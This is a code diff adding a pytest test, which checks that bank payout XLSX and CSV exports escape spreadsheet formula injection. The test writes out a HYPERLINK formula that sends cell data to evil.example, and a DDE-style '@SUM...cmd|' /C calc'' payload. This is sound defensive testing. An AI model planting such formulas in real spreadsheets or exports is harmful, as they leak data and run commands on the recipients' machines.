@@ -53,3 +53,23 @@ def test_a_draft_batch_is_not_exported(lingzi):
     batch = payouts.create_batch(lingzi.maker_id, "bank", 0)
     with pytest.raises(Conflict, match="approved"):
         exports.bank_xlsx(lingzi.maker_id, batch.id)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?a="&E2,"Open")'
+
+
+def test_a_bank_name_written_as_a_formula_stays_text_in_the_bank_files(lingzi):
+    batch_id, amounts = approved_batch(lingzi, "bank")
+    payee = db.session.get(Household, next(iter(amounts)))
+    payee.bank_name = FORMULA
+    payee.head_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db.session.commit()
+    _batch, content = exports.bank_xlsx(lingzi.maker_id, batch_id)
+    sheet = load_workbook(BytesIO(content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + FORMULA in [cell.value for cell in cells]
+    _batch, content = exports.bank_csv(lingzi.maker_id, batch_id)
+    text = content.decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "'@SUM" in text
+    assert not [line for line in text.splitlines() for cell in line.split(",") if cell.startswith(("=", "@", '"=', '"@'))]
